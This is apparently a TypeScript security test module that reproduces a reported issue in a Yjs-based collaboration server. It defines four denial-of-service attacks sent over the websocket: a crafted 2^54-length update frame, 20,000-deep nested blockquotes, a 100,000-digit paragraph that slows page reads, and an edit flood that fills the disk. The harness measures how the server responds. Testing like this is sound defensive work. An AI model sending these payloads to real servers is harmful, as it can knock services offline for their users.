/**
 * Attacks through the document itself, over the collaboration socket, each sent the way the
 * security issue reported it: crafted and deeply nested updates, text that makes reads slow, and
 * a flood of tiny edits that each become a stored row.
 */
import * as Y from 'yjs';
import { diskStats } from './checks.ts';
import { closedWithin, mib, openHostile, paragraphUpdate, untilWindowEnd } from './collabHelpers.ts';
import { describe, request, waitForHealth } from './http.ts';
import { fromHex, messages } from './messages.ts';
import type { RawWebSocket } from './rawSocket.ts';
import { sleep } from './RoundsProcess.ts';
import type { Attack, AttackContext, Details } from './types.ts';

/** A deleted item of length 2^54 in `default`: Y.applyUpdate integrates part of it, then throws. */
const CRAFTED_UPDATE_HEX = '01018b060001010764656661756c74808080808080802000';

const closeText = (ws: RawWebSocket, closed: boolean): string =>
  closed
    ? `closed ${ws.closeCode ?? '(no close frame)'}${ws.closeReason ? ` "${ws.closeReason}"` : ''}`
    : 'left open';

export const craftedUpdate: Attack = {
  name: 'crafted-update',
  description: `one sync update frame ${CRAFTED_UPDATE_HEX} (deleted item of length 2^54 in default)`,
  run: async (ctx) => {
    const started = Date.now();
    const ws = await openHostile(ctx);
    ws.send(messages.update(fromHex(CRAFTED_UPDATE_HEX)));
    const closed = await closedWithin(ws, 3_000);
    const socket = closeText(ws, closed);
    await untilWindowEnd(ctx, started);
    ws.destroy();
    return { socket };
  },
  summary: (d) => `attacker socket ${String(d.socket)}`,
};

/** 20,000 nested blockquotes with a paragraph at the bottom, built without recursion. */
function deepNestingUpdate(depth: number): Uint8Array {
  const doc = new Y.Doc();
  let update: Uint8Array = new Uint8Array();
  doc.on('update', (u: Uint8Array) => (update = u));
  doc.transact(() => {
    let parent: Y.XmlFragment | Y.XmlElement = doc.getXmlFragment('default');
    for (let i = 0; i < depth; i++) {
      const el = new Y.XmlElement('blockquote');
      parent.insert(0, [el]);
      parent = el;
    }
    const p = new Y.XmlElement('paragraph');
    p.insert(0, [new Y.XmlText('the bottom of the well')]);
    parent.insert(0, [p]);
  });
  doc.destroy();
  return update;
}

export const deepNesting: Attack = {
  name: 'deep-nesting',
  description: 'a blockquote nested 20,000 deep (paragraph at the bottom) in default, as one update',
  env: { COLLAB_MAX_MESSAGE_BYTES: String(4 * 1024 * 1024) },
  run: async (ctx) => {
    const started = Date.now();
    const update = deepNestingUpdate(20_000);
    const ws = await openHostile(ctx);
    ws.send(messages.update(update));
    const closed = await closedWithin(ws, 3_000);
    const socket = closeText(ws, closed);
    await untilWindowEnd(ctx, started);
    ws.destroy();
    return { updateBytes: update.byteLength, socket };
  },
  summary: (d) => `${(Number(d.updateBytes) / 1000).toFixed(0)} kB update; socket ${String(d.socket)}`,
};

export const claimsRegex: Attack = {
  name: 'claims-regex',
  description: 'a paragraph of 100,000 digits in the draft, then GET /api/pages/:id a few times',
  run: async (ctx) => {
    const started = Date.now();
    const ws = await openHostile(ctx);
    let digits = '';
    while (digits.length < 100_000) digits += '1234567890';
    ws.send(messages.update(paragraphUpdate(digits)));
    const closed = await closedWithin(ws, 1_000);
    const gets: string[] = [];
    const getMs: number[] = [];
    // A few reads, bounded: stop after a timeout or once a minute has gone into them.
    for (let i = 0; i < 3 && !ctx.signal.aborted && Date.now() - started < 60_000; i++) {
      const res = await request(ctx.server.url, 'GET', `/api/pages/${ctx.pageId}`, {
        cookie: ctx.attacker.cookie,
        timeoutMs: 30_000,
      });
      gets.push(describe(res));
      getMs.push(Math.round(res.ms));
      if (res.timedOut || res.status < 0) break;
    }
    // How long the one read keeps the server busy past its timeout (bounded).
    let busyAfterTimeout: string | undefined;
    if (gets.at(-1)?.startsWith('timed out')) {
      const back = await waitForHealth(ctx.server.url, 40_000, ctx.signal);
      busyAfterTimeout =
        back === null ? 'still busy 40 s later' : `busy another ${(back / 1000).toFixed(1)} s`;
    }
    await untilWindowEnd(ctx, started);
    ws.destroy();
    return { socket: closeText(ws, closed), gets, getMs, ...(busyAfterTimeout ? { busyAfterTimeout } : {}) };
  },
  summary: (d) =>
    `GET /api/pages/:id: ${(d.gets as string[] | undefined)?.join(', ') ?? '–'}${typeof d.busyAfterTimeout === 'string' ? `, then ${d.busyAfterTimeout}` : ''}`,
};

/** One socket inserts and deletes one character as fast as it can: every update is a row. */
export const diskFill: Attack = {
  name: 'disk-fill',
  description: 'one socket: insert then delete one character, as fast as possible',
  run: async (ctx) => {
    const started = Date.now();
    const doc = new Y.Doc();
    const p = new Y.XmlElement('paragraph');
    const text = new Y.XmlText('typing here');
    p.insert(0, [text]);
    doc.getXmlFragment('default').insert(0, [p]);
    let ws = await openHostile(ctx);
    ws.send(messages.update(Y.encodeStateAsUpdate(doc)));
    let updates = 0;
    let bytes = 0;
    let reconnects = 0;
    const codes: Record<string, number> = {};
    doc.on('update', (u: Uint8Array) => {
      updates++;
      bytes += u.byteLength;
      ws.send(messages.update(u));
    });
    const done = (): boolean => ctx.signal.aborted || Date.now() >= started + ctx.windowMs;
    while (!done()) {
      if (ws.isClosed) {
        const code = String(ws.closeCode ?? 'no close frame');
        codes[code] = (codes[code] ?? 0) + 1;
        await sleep(200);
        try {
          ws = await openHostile(ctx);
          reconnects++;
          // Whatever the server dropped, it gets the whole state again (as a client would).
          ws.send(messages.syncStep2(Y.encodeStateAsUpdate(doc)));
        } catch {
          continue;
        }
      }
      for (let i = 0; i < 200; i++) {
        text.insert(0, 'a');
        text.delete(0, 1);
      }
      if (ws.pendingWrite > 1024 * 1024) await ws.drained(started + ctx.windowMs - Date.now());
      else await new Promise((r) => setImmediate(r));
    }
    const seconds = (Date.now() - started) / 1000;
    ws.destroy();
    doc.destroy();
    return {
      updatesSent: updates,
      updatesPerSecond: updates / seconds,
      bytesSent: bytes,
      reconnects,
      closeCodes: codes,
    };
  },
  afterWindow: (ctx: AttackContext): Promise<Details> =>
    Promise.resolve({ diskAtWindowEnd: diskStats(ctx.dataDir) }),
  summary: (d) => {
    const disk = d.diskAtWindowEnd as
      { dbBytes: number; walBytes: number; updateRows: number | null } | undefined;
    return `${String(d.updatesSent)} updates sent → ${disk?.updateRows ?? '?'} rows, DB ${disk ? mib(disk.dbBytes) : '?'} + WAL ${disk ? mib(disk.walBytes) : '?'}, ${Number(d.serverWarnLinesDuringWindow ?? Number.NaN)} warning lines`;
  },
};
